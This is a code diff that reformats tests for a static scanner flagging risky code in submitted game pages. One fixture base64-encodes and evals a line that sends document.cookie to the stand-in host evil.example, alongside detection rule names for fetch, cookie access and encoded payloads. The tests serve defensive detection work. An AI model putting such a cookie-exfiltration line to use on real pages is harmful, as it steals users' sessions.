@@ -59,9 +59,13 @@ describe('evasions resolve to the real API', () => {
   });
 
   it('decodes payloads that reach eval-like sinks and scans them as code', () => {
-    const payload = Buffer.from(`fetch('https://evil.example/' + document.cookie); ${'var pad = 1; '.repeat(20)}`).toString('base64');
-    expect(rulesOf(`eval(atob('${payload}'))`)).toEqual(expect.arrayContaining(['dynamic-code.eval', 'network.fetch', 'storage.cookie', 'obfuscation.encoded-payload', 'obfuscation.encoded-code']));
-    expect(rulesOf("setTimeout('fetch(\"/x\")', 1)")).toEqual(expect.arrayContaining(['dynamic-code.string-timer', 'network.fetch']));
+    const payload = Buffer.from(`fetch('https://evil.example/' + document.cookie); ${'var pad = 1; '.repeat(20)}`)
+      .toString('base64');
+    expect(rulesOf(`eval(atob('${payload}'))`)).toEqual(expect.arrayContaining([
+      'dynamic-code.eval', 'network.fetch', 'storage.cookie', 'obfuscation.encoded-payload', 'obfuscation.encoded-code',
+    ]));
+    expect(rulesOf("setTimeout('fetch(\"/x\")', 1)"))
+      .toEqual(expect.arrayContaining(['dynamic-code.string-timer', 'network.fetch']));
   });
 
   it('flags bidi controls anywhere and invisible characters in code, not in strings with emoji', () => {
@@ -77,7 +81,8 @@ describe('no false positives on ordinary game code', () => {
     'function fetch(level) { return level * 2 } fetch(3);',
     'const open = () => 1; open(); const location = { x: 0 }; location.x = 5;',
     'class Ship { #fuel = 1; open() { return this.#fuel ?? 0 } eval() { return 1 } } new Ship().open();',
-    'const game = { start() {}, storage: [] }; game.start(); game.storage.push(1); const rect = el.getBoundingClientRect(); rect.top + rect.left;',
+    'const game = { start() {}, storage: [] }; game.start(); game.storage.push(1); ' +
+      'const rect = el.getBoundingClientRect(); rect.top + rect.left;',
     "setTimeout(() => spawn(), 500); setInterval(tick, 16); requestAnimationFrame(loop);",
     "if (cb instanceof Function) cb(); const name = cb.constructor.name;",
     "for (;;) { if (done()) break; } function find() { while (true) { if (x++ > 9) return x; } }",
@@ -95,19 +100,25 @@ describe('no false positives on ordinary game code', () => {
 describe('findings', () => {
   it('carry the document line and column of the offending code', () => {
     const { findings } = staticScan(page('let a = 1;\n  const w = window;\n  w.fetch("/x");'));
-    expect(findings).toEqual([expect.objectContaining({ rule: 'network.fetch', severity: 'block', line: 6, column: 3, source: 'w.fetch("/x");' })]);
-    const handler = staticScan('<!DOCTYPE html>\n<body>\n<button onclick="go();\n  fetch(1)">x</button></body>').findings;
+    expect(findings).toEqual([expect.objectContaining({
+      rule: 'network.fetch', severity: 'block', line: 6, column: 3, source: 'w.fetch("/x");',
+    })]);
+    const handler = staticScan('<!DOCTYPE html>\n<body>\n<button onclick="go();\n  fetch(1)">x</button></body>')
+      .findings;
     expect(handler.find((f) => f.rule === 'network.fetch')).toMatchObject({ line: 4, column: 3 });
   });
 
   it('cover markup and CSS', () => {
-    const html = page('', '<script src="https://cdn.example.com/x.js"></script><style>b { background: url(//evil.example/p.png) }</style><meta http-equiv="refresh" content="0;url=/x">');
-    expect(staticScan(html).findings.map((f) => f.rule).sort()).toEqual(['external.script', 'navigation.meta-refresh', 'network.css-url']);
+    const html = page('', '<script src="https://cdn.example.com/x.js"></script>' +
+      '<style>b { background: url(//evil.example/p.png) }</style><meta http-equiv="refresh" content="0;url=/x">');
+    expect(staticScan(html).findings.map((f) => f.rule).sort())
+      .toEqual(['external.script', 'navigation.meta-refresh', 'network.css-url']);
     expect(staticScan(page('', '<script src="/play/vendor/phaser.min.js"></script>')).findings).toEqual([]);
   });
 
   it('block any script no parser can read', () => {
-    expect(staticScan(page('function ( {')).findings).toEqual([expect.objectContaining({ rule: 'parse.syntax-error', severity: 'block', line: 4 })]);
+    expect(staticScan(page('function ( {')).findings)
+      .toEqual([expect.objectContaining({ rule: 'parse.syntax-error', severity: 'block', line: 4 })]);
   });
 
   it('give a verdict and a score', () => {
